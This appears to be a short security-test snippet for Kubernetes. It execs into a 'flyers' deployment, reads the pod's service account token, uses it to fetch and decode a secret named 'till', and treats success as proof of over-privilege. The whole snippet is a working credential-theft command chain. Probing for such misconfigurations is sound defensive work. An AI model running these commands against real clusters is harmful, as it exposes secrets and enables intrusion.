# Someone who runs commands in the flyer printer. Exit 0: its token opened the till.
kubectl -n market exec deploy/flyers -- sh -c '
  token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) || exit 1
  curl -sSfk -H "Authorization: Bearer $token" https://kubernetes.default.svc/api/v1/namespaces/market/secrets/till
' | jq -r '.data.code | @base64d' | grep .
